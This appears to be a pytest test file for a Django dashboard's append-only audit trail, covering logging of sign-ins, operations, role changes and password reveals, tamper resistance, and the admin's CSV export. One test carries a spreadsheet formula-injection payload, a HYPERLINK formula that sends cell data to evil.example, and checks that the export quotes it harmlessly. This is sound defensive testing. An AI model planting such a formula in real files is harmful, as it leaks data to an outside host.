"""The audit trail as a member and an admin see it: one event for each audited action, saying
who, from where, with which browser and on which host (also after the host is gone); a trail
nobody can rewrite, not in the admin, not through the ORM, not (on PostgreSQL) in raw SQL; and
the admin's filters, search and CSV export."""

from __future__ import annotations

import csv
import html
import io
import json
import re
import uuid
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta
from urllib.parse import urlencode

import pytest
from django.contrib.auth.models import Group
from django.db import DatabaseError, connection, transaction
from django.db.models import Max
from django.forms.models import model_to_dict
from django.utils import timezone

from dashboard.models import AppendOnlyError, AuditEvent, Host, Operation
from dashboard.permissions import Forbidden
from dashboard.services import OperationRefused
from tests.conftest import MEMBER_PASSWORD
from vmclient.types import HostStatus

pytestmark = pytest.mark.django_db

UA = "Mozilla/5.0 (X11; Linux x86_64) AuditTest/1.0"
IP = "198.51.100.23"
FROM = {"headers": {"user-agent": UA}, "REMOTE_ADDR": IP}
WRONG_PASSWORD = "not-the-password-Qx7"
CSV_HEADER = [
    "at",
    "action",
    "actor_name",
    "ip",
    "user_agent",
    "host_id",
    "host_name",
    "operation_id",
    "summary",
    "details",
]


@contextmanager
def recorded():
    """The audit events written inside the block, oldest first."""
    before = AuditEvent.objects.aggregate(last=Max("id"))["last"] or 0
    events: list[AuditEvent] = []
    yield events
    events.extend(AuditEvent.objects.filter(id__gt=before).order_by("id"))


def actions(events) -> list[str]:
    return [event.action for event in events]


def everything_in(event: AuditEvent) -> str:
    """Every value of the row, as text: where a secret must not be."""
    return json.dumps(model_to_dict(event), default=str, ensure_ascii=False)


def later(sim):
    return lambda: sim.clock.advance(20)


# --- Signing in and out ------------------------------------------------------------------------


def test_signing_in_is_one_event_with_who_where_and_which_browser(client, member):
    with recorded() as events:
        response = client.post(
            "/accounts/login/", {"username": "member", "password": MEMBER_PASSWORD}, **FROM
        )
    assert response.status_code == 302 and response["Location"] == "/hosts/"
    assert actions(events) == ["signed_in"]
    event = events[0]
    assert event.actor == member and event.actor_name == "member"
    assert event.ip == IP and event.user_agent == UA
    assert event.summary == "member signed in"
    assert MEMBER_PASSWORD not in everything_in(event)


def test_signing_out_is_one_event(client, member):
    client.force_login(member)
    with recorded() as events:
        response = client.post("/accounts/logout/", **FROM)
    assert response.status_code == 302
    assert actions(events) == ["signed_out"]
    event = events[0]
    assert event.actor == member and event.actor_name == "member"
    assert event.ip == IP and event.user_agent == UA
    # Signing out again, with no session left, is not a second sign-out.
    with recorded() as again:
        client.post("/accounts/logout/", **FROM)
    assert actions(again) == []


def test_a_failed_sign_in_keeps_the_name_tried_and_never_the_password(client, member):
    with recorded() as events:
        response = client.post(
            "/accounts/login/", {"username": "member", "password": WRONG_PASSWORD}, **FROM
        )
    assert response.status_code == 200
    assert actions(events) == ["sign_in_failed"]
    event = events[0]
    assert event.actor == member and event.actor_name == "member"
    assert event.ip == IP and event.user_agent == UA
    assert "member" in event.summary
    assert WRONG_PASSWORD not in everything_in(event)

    # A name nobody has: kept as tried, with no account behind it.
    with recorded() as events:
        client.post(
            "/accounts/login/", {"username": "no-such-person", "password": WRONG_PASSWORD}, **FROM
        )
    assert actions(events) == ["sign_in_failed"]
    assert events[0].actor is None and events[0].actor_name == "no-such-person"
    assert WRONG_PASSWORD not in everything_in(events[0])


# --- Operations --------------------------------------------------------------------------------


def test_an_operation_asked_for_on_its_page_is_one_event_with_who_where_and_which_host(
    member_client, member, mirrored
):
    host = mirrored(status=HostStatus.RUNNING, name="render-01")
    with recorded() as events:
        response = member_client.post(
            f"/hosts/{host.id}/actions/reboot/", {"idempotency_key": str(uuid.uuid4())}, **FROM
        )
    assert response.status_code == 302
    operation = Operation.objects.get()
    assert actions(events) == ["operation_requested"]
    event = events[0]
    assert event.actor == member and event.actor_name == "member"
    assert event.ip == IP and event.user_agent == UA
    assert (event.host_id, event.host_name) == (host.id, "render-01")
    assert event.operation == operation
    assert event.summary == "Reboot of render-01 requested"


def test_an_operation_the_role_does_not_allow_is_one_refusal(
    client, make_member, mirrored, ask, dispatched
):
    viewer = make_member("vic", "Viewer")
    host = mirrored(status=HostStatus.RUNNING, name="render-02")

    with recorded() as events, pytest.raises(Forbidden):
        ask("reboot", host, user=viewer)
    assert actions(events) == ["operation_refused"]
    event = events[0]
    assert event.actor == viewer and event.actor_name == "vic"
    assert (event.host_id, event.host_name) == (host.id, "render-02")
    assert event.details["code"] == "forbidden"
    assert event.summary.startswith("Reboot of render-02 refused:")

    # Through the page: one refusal (the 403 page adds no second row), with where it came from.
    client.force_login(viewer)
    with recorded() as events:
        response = client.post(
            f"/hosts/{host.id}/actions/reboot/", {"idempotency_key": str(uuid.uuid4())}, **FROM
        )
    assert response.status_code == 403
    assert actions(events) == ["operation_refused"]
    assert events[0].ip == IP and events[0].user_agent == UA
    assert events[0].actor_name == "vic" and events[0].host_id == host.id
    assert Operation.objects.count() == 0 and dispatched == []


def test_an_operation_the_host_state_does_not_allow_is_one_refusal(member, mirrored, ask):
    host = mirrored(status=HostStatus.OFF, name="render-03")

    with recorded() as events, pytest.raises(OperationRefused):
        ask("reboot", host)
    assert actions(events) == ["operation_refused"]
    event = events[0]
    assert event.actor == member and event.actor_name == "member"
    assert (event.host_id, event.host_name) == (host.id, "render-03")
    assert event.details["code"] == "refused"
    assert "not possible while the host is off" in event.summary
    assert Operation.objects.count() == 0


def test_a_finished_operation_is_one_event_on_behalf_of_its_requester(
    sim, member, mirrored, ask, run
):
    host = mirrored(status=HostStatus.OFF, name="render-04")
    with recorded() as asked:
        operation = ask("power_on", host)
    assert actions(asked) == ["operation_requested"]

    with recorded() as events:
        operation = run(operation, between=later(sim))
    assert operation.state == "succeeded"
    assert actions(events) == ["operation_finished"]
    event = events[0]
    assert event.actor == member and event.actor_name == "member"
    assert event.ip is None and event.user_agent == ""  # the worker, not a browser
    assert (event.host_id, event.host_name) == (host.id, "render-04")
    assert event.operation == operation
    assert event.details["state"] == "succeeded"
    assert event.summary == "Power on of render-04: succeeded"


def test_the_host_name_stays_in_old_events_after_the_host_is_gone(
    sim, member, mirrored, ask, run, admin_client
):
    host = mirrored(status=HostStatus.OFF, owner=member, name="render-05")
    operation = run(ask("delete", host), between=later(sim))
    assert operation.state == "succeeded"
    assert Host.objects.get(id=host.id).is_gone
    Host.objects.filter(id=host.id).delete()  # and then the mirror forgets it entirely

    events = AuditEvent.objects.filter(host_id=host.id).order_by("id")
    assert actions(events) == ["operation_requested", "operation_finished"]
    assert {event.host_name for event in events} == {"render-05"}
    page = admin_client.get("/admin/dashboard/auditevent/", {"q": "render-05"})
    assert {event.pk for event in page.context["cl"].result_list} == {e.pk for e in events}
    assert "render-05" in page.content.decode()


def test_an_event_keeps_saying_who_after_the_account_is_gone(client, make_member):
    gone = make_member("temp-worker", "Viewer")
    client.post("/accounts/login/", {"username": "temp-worker", "password": MEMBER_PASSWORD})
    event = AuditEvent.objects.get(action="signed_in", actor_name="temp-worker")
    client.logout()
    gone.delete()

    event = AuditEvent.objects.get(pk=event.pk)
    assert event.actor_name == "temp-worker" and event.summary == "temp-worker signed in"


# --- Owners, roles, passwords ------------------------------------------------------------------


def test_changing_a_host_owner_is_one_event_each_time(client, ada, make_member, make_host):
    sam = make_member("sam", "Creator")
    host = make_host(name="render-06")
    client.force_login(ada)

    with recorded() as events:
        response = client.post(f"/hosts/{host.id}/owner/", {"owner": "sam"}, **FROM)
    assert response.status_code == 302
    assert Host.objects.get(id=host.id).owner == sam
    assert actions(events) == ["owner_changed"]
    event = events[0]
    assert event.actor == ada and event.actor_name == "ada"
    assert event.ip == IP and event.user_agent == UA
    assert (event.host_id, event.host_name) == (host.id, "render-06")
    assert event.details == {"from": "", "to": "sam"}
    assert event.summary == "Owner of render-06: nobody → sam"

    # The same owner again changes nothing and so writes nothing.
    with recorded() as events:
        client.post(f"/hosts/{host.id}/owner/", {"owner": "sam"}, **FROM)
    assert actions(events) == []

    with recorded() as events:
        response = client.post(f"/hosts/{host.id}/owner/", {"owner": ""}, **FROM)
    assert response.status_code == 302
    assert Host.objects.get(id=host.id).owner is None
    assert actions(events) == ["owner_changed"]
    assert events[0].details == {"from": "sam", "to": ""}
    assert events[0].summary == "Owner of render-06: sam → nobody"
    assert events[0].actor_name == "ada" and events[0].ip == IP


def test_an_operator_overwriting_a_creators_note_is_audited_with_before_and_after(
    client, make_member, make_host
):
    cleo, otto = make_member("cleo", "Creator"), make_member("otto", "Operator")
    host = make_host(name="render-09", owner=cleo)
    client.force_login(cleo)
    with recorded() as events:
        client.post(f"/hosts/{host.id}/notes/", {"labels": "gpu", "note": "Keep until Friday"})
    assert actions(events) == ["annotation_changed"]
    assert events[0].actor_name == "cleo"
    assert events[0].details == {
        "labels": {"from": [], "to": ["gpu"]},
        "note": {"from": "", "to": "Keep until Friday"},
    }

    client.force_login(otto)
    with recorded() as events:
        response = client.post(
            f"/hosts/{host.id}/notes/", {"labels": "gpu render", "note": "Free to stop"}, **FROM
        )
    assert response.status_code == 302
    assert actions(events) == ["annotation_changed"]
    event = events[0]
    assert event.actor == otto and event.actor_name == "otto"
    assert event.ip == IP and event.user_agent == UA
    assert (event.host_id, event.host_name) == (host.id, "render-09")
    assert event.details == {
        "labels": {"from": ["gpu"], "to": ["gpu", "render"]},
        "note": {"from": "Keep until Friday", "to": "Free to stop"},
    }
    assert event.summary == (
        'render-09: labels gpu → gpu render; note "Keep until Friday" → "Free to stop"'
    )

    # Saving the form unchanged records nothing.
    with recorded() as events:
        client.post(f"/hosts/{host.id}/notes/", {"labels": "render gpu", "note": "Free to stop"})
    assert actions(events) == []


def test_giving_and_taking_a_role_is_one_event_each(make_member):
    pat = make_member("pat", "Viewer")
    operator = Group.objects.get(name="Operator")

    with recorded() as events:
        pat.groups.add(operator)
    assert actions(events) == ["role_changed"]
    assert events[0].details == {"member": "pat", "role": "Operator", "change": "added"}
    assert events[0].summary == "Role Operator given pat"

    with recorded() as events:
        pat.groups.remove(operator)
    assert actions(events) == ["role_changed"]
    assert events[0].details == {"member": "pat", "role": "Operator", "change": "removed"}

    with recorded() as events:  # from the group's side
        operator.user_set.add(pat)
    assert [event.details for event in events] == [
        {"member": "pat", "role": "Operator", "change": "added"}
    ]


def test_a_role_given_in_the_admin_is_audited_with_who_gave_it_and_from_where(
    client, admin_user, make_member
):
    pat = make_member("pat", "Viewer")
    viewer, operator = Group.objects.get(name="Viewer"), Group.objects.get(name="Operator")
    client.force_login(admin_user)
    joined = timezone.localtime(pat.date_joined)
    form = {
        "username": "pat",
        "first_name": "",
        "last_name": "",
        "email": pat.email,
        "is_active": "on",
        "is_staff": "on",
        "groups": [viewer.pk, operator.pk],
        "user_permissions": [],
        "last_login_0": "",
        "last_login_1": "",
        "date_joined_0": joined.strftime("%Y-%m-%d"),
        "date_joined_1": joined.strftime("%H:%M:%S"),
        "_save": "Save",
    }
    with recorded() as events:
        response = client.post(f"/admin/auth/user/{pat.pk}/change/", form, **FROM)
    assert response.status_code == 302, response.content.decode()[:2000]
    assert set(pat.groups.values_list("name", flat=True)) == {"Viewer", "Operator"}

    changes = [event for event in events if event.action == "role_changed"]
    assert sorted(event.summary for event in changes) == [
        "Role Operator given pat",
        "is_staff set to True for pat",
    ]
    for event in changes:
        assert event.actor == admin_user and event.actor_name == admin_user.username
        assert event.ip == IP and event.user_agent == UA


def test_revealing_a_host_password_is_one_event_without_the_password(client, ada, mirrored, sim):
    host = mirrored(status=HostStatus.RUNNING, name="render-07")
    password = sim.fleet.hosts[host.id].host_pw
    assert password
    client.force_login(ada)

    with recorded() as events:
        response = client.post(f"/hosts/{host.id}/password/", **FROM)
    assert response.status_code == 200
    assert password in response.content.decode()
    assert actions(events) == ["password_revealed"]
    event = events[0]
    assert event.actor == ada and event.actor_name == "ada"
    assert event.ip == IP and event.user_agent == UA
    assert (event.host_id, event.host_name) == (host.id, "render-07")
    assert password not in everything_in(event)


# --- Append-only -------------------------------------------------------------------------------


@pytest.fixture
def event(db):
    return AuditEvent.objects.create(
        action=AuditEvent.Action.OWNER_CHANGED,
        actor_name="ada",
        host_id="h000001",
        host_name="render-08",
        summary="Owner of render-08: nobody → sam",
    )


def unchanged(event: AuditEvent) -> bool:
    now = AuditEvent.objects.filter(pk=event.pk).values("summary", "action", "actor_name").first()
    return now == {"summary": event.summary, "action": event.action, "actor_name": "ada"}


def test_the_admin_cannot_add_audit_events_even_for_a_superuser(admin_client, event):
    assert admin_client.get("/admin/dashboard/auditevent/add/").status_code == 403
    form = {"action": "signed_in", "summary": "made up", "details": "{}"}
    assert admin_client.post("/admin/dashboard/auditevent/add/", form).status_code == 403
    assert AuditEvent.objects.filter(summary="made up").count() == 0


def test_the_admin_cannot_change_audit_events_even_for_a_superuser(admin_client, event):
    url = f"/admin/dashboard/auditevent/{event.pk}/change/"
    page = admin_client.get(url)
    assert page.status_code == 200
    text = page.content.decode()
    assert "render-08" in text  # the event is shown
    assert 'name="_save"' not in text and 'name="_continue"' not in text

    form = {
        "action": "signed_in",
        "actor_name": "mallory",
        "summary": "rewritten",
        "details": "{}",
        "_save": "Save",
    }
    response = admin_client.post(url, form)
    assert response.status_code == 403
    assert unchanged(event)


def test_an_events_page_is_headed_in_the_teams_time_zone_like_the_list(admin_client, settings):
    settings.TIME_ZONE = "Asia/Shanghai"
    at = datetime(2026, 11, 5, 2, 30, tzinfo=UTC)  # 10:30 in Shanghai
    event = AuditEvent.objects.create(
        action=AuditEvent.Action.SIGNED_IN, actor_name="ada", summary="ada signed in", at=at
    )
    page = admin_client.get(f"/admin/dashboard/auditevent/{event.pk}/change/").content.decode()
    heading = re.search(r"<h2>(.*?)</h2>", page, re.S).group(1)
    assert "2026-11-05 10:30:00" in heading
    assert "02:30" not in page


def test_the_admin_cannot_delete_audit_events_even_for_a_superuser(admin_client, event):
    url = f"/admin/dashboard/auditevent/{event.pk}/delete/"
    assert admin_client.get(url).status_code == 403
    assert admin_client.post(url, {"post": "yes"}).status_code == 403
    assert unchanged(event)

    changelist = admin_client.get("/admin/dashboard/auditevent/")
    assert changelist.status_code == 200
    assert "render-08" in changelist.content.decode()
    assert 'value="delete_selected"' not in changelist.content.decode()
    # Posting the action anyway deletes nothing.
    admin_client.post(
        "/admin/dashboard/auditevent/",
        {"action": "delete_selected", "_selected_action": [event.pk], "post": "yes"},
    )
    assert unchanged(event)


def test_the_model_refuses_to_change_or_delete_an_event(event):
    event.summary = "rewritten"
    with pytest.raises(AppendOnlyError):
        event.save()
    with pytest.raises(AppendOnlyError):
        event.delete()
    event.summary = "Owner of render-08: nobody → sam"
    assert unchanged(event)


def test_the_queryset_refuses_to_change_or_delete_events(event):
    with pytest.raises(AppendOnlyError):
        AuditEvent.objects.update(summary="rewritten")
    with pytest.raises(AppendOnlyError):
        AuditEvent.objects.filter(pk=event.pk).update(summary="rewritten")
    with pytest.raises(AppendOnlyError):
        AuditEvent.objects.delete()
    with pytest.raises(AppendOnlyError):
        AuditEvent.objects.filter(pk=event.pk).delete()
    event.summary = "rewritten"
    with pytest.raises(AppendOnlyError), transaction.atomic():
        AuditEvent.objects.bulk_update([event], ["summary"])
    event.summary = "Owner of render-08: nobody → sam"
    assert unchanged(event) and AuditEvent.objects.count() == 1


def test_the_database_refuses_raw_updates_and_deletes(event):
    """On PostgreSQL a trigger refuses raw SQL too (migration 0004). SQLite has no trigger (its
    test runs empty tables with DELETE); there the model's guards are what holds."""
    if connection.vendor == "postgresql":
        for sql in (
            "UPDATE dashboard_auditevent SET summary = 'x'",
            "DELETE FROM dashboard_auditevent",
        ):
            with (
                pytest.raises(DatabaseError, match="append-only"),
                transaction.atomic(),
                connection.cursor() as cursor,
            ):
                cursor.execute(sql)
    else:
        with pytest.raises(AppendOnlyError):
            AuditEvent.objects.update(summary="x")
        with pytest.raises(AppendOnlyError):
            AuditEvent.objects.all().delete()
        with pytest.raises(AppendOnlyError):
            AuditEvent.objects.get(pk=event.pk).delete()
    assert unchanged(event) and AuditEvent.objects.count() == 1


# --- Reading the trail in the admin ------------------------------------------------------------


@pytest.fixture
def trail(admin_client):
    """Events by two people on several days; the superuser's account being created and their
    own sign-in are there too."""
    now = timezone.now()

    def add(action, actor, summary, *, days_ago=0, host_name=""):
        return AuditEvent.objects.create(
            action=action,
            actor_name=actor,
            summary=summary,
            at=now - timedelta(days=days_ago),
            host_id="h000077" if host_name else "",
            host_name=host_name,
        )

    return {
        "created": AuditEvent.objects.get(action="member_created"),
        "login": AuditEvent.objects.get(action="signed_in", actor_name="admin"),
        "alice_in": add("signed_in", "alice", "alice signed in"),
        "bob_reboot": add("operation_requested", "bob", "Reboot requested", host_name="gpu-box-77"),
        "bob_in_old": add("signed_in", "bob", "bob signed in", days_ago=10),
        "alice_owner": add("owner_changed", "alice", "Owner changed", days_ago=3),
    }


def shown(admin_client, **params) -> set[int]:
    response = admin_client.get("/admin/dashboard/auditevent/", params)
    assert response.status_code == 200  # an invalid filter would redirect to ?e=1
    return {event.pk for event in response.context["cl"].result_list}


def pks(trail, *names) -> set[int]:
    return {trail[name].pk for name in names}


def test_the_changelist_filters_by_action_person_and_date(admin_client, trail):
    assert shown(admin_client) == pks(trail, *trail)
    assert shown(admin_client, action__exact="signed_in") == pks(
        trail, "login", "alice_in", "bob_in_old"
    )
    assert shown(admin_client, actor_name__exact="bob") == pks(trail, "bob_reboot", "bob_in_old")
    assert shown(admin_client, action__exact="signed_in", actor_name__exact="bob") == pks(
        trail, "bob_in_old"
    )
    today = timezone.localtime().replace(hour=0, minute=0, second=0, microsecond=0)
    past_week = {"at__gte": str(today - timedelta(days=7)), "at__lt": str(today + timedelta(1))}
    assert shown(admin_client, **past_week) == pks(
        trail, "created", "login", "alice_in", "bob_reboot", "alice_owner"
    )


def test_the_changelist_search_finds_events_by_host_name(admin_client, trail):
    assert shown(admin_client, q="gpu-box-77") == pks(trail, "bob_reboot")
    assert shown(admin_client, q="no-such-host") == set()


def export(admin_client, **params) -> list[list[str]]:
    """Follows the changelist's Export CSV link (which carries its filters)."""
    page = admin_client.get("/admin/dashboard/auditevent/", params).content.decode()
    link = html.unescape(re.search(r'href="([^"]*/export\.csv[^"]*)"', page).group(1))
    response = admin_client.get(link)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    text = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(text)))


def test_the_csv_export_has_a_header_and_only_the_filtered_rows(admin_client, trail):
    rows = export(admin_client, action__exact="signed_in", actor_name__exact="alice")
    assert rows[0] == CSV_HEADER
    assert [row[CSV_HEADER.index("summary")] for row in rows[1:]] == ["alice signed in"]
    assert rows[1][CSV_HEADER.index("actor_name")] == "alice"

    rows = export(admin_client, q="gpu-box-77")
    assert [row[CSV_HEADER.index("host_name")] for row in rows[1:]] == ["gpu-box-77"]

    # The export URL itself, with the filters in its query string.
    url = "/admin/dashboard/auditevent/export.csv?" + urlencode({"actor_name__exact": "bob"})
    text = b"".join(admin_client.get(url).streaming_content).decode("utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == CSV_HEADER
    assert sorted(row[CSV_HEADER.index("summary")] for row in rows[1:]) == [
        "Reboot requested",
        "bob signed in",
    ]
    assert len(export(admin_client)) == 1 + len(trail)


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_exported_quoted(admin_client, start):
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    AuditEvent.objects.create(
        action="owner_changed", actor_name=f"{start}cmd", summary=formula, host_name="gpu-box-9"
    )
    rows = export(admin_client, action__exact="owner_changed")
    assert len(rows) == 2
    assert rows[1][CSV_HEADER.index("summary")] == "'" + formula
    assert rows[1][CSV_HEADER.index("actor_name")] == f"'{start}cmd"
    assert rows[1][CSV_HEADER.index("host_name")] == "gpu-box-9"  # plain text stays as it is


# --- Who may read it ---------------------------------------------------------------------------


def test_an_admin_member_who_is_not_staff_can_read_the_trail(client, ada, event):
    assert not ada.is_staff and not ada.is_superuser
    client.force_login(ada)
    page = client.get("/admin/dashboard/auditevent/")
    assert page.status_code == 200
    assert "render-08" in page.content.decode()
    exported = client.get("/admin/dashboard/auditevent/export.csv")
    assert exported.status_code == 200
    assert "render-08" in b"".join(exported.streaming_content).decode()


def test_a_viewer_cannot_read_the_trail(client, make_member, event):
    client.force_login(make_member("vic", "Viewer"))
    for url in ("/admin/dashboard/auditevent/", "/admin/dashboard/auditevent/export.csv"):
        response = client.get(url)
        assert response.status_code in (302, 403), url
        if response.status_code == 302:
            assert response["Location"].startswith(("/admin/login/", "/accounts/login/")), url
        body = b"".join(response.streaming_content) if response.streaming else response.content
        assert b"render-08" not in body
